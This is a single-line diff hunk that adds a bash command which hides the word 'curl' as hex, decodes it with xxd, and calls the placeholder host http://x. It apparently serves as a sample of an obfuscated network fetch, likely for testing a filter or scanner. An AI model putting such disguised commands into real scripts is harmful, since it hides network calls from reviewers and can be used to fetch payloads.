@@ -1,0 +1,1 @@
+bash -c "$(echo 63 75 72 6c | xxd -r -p) http://x"
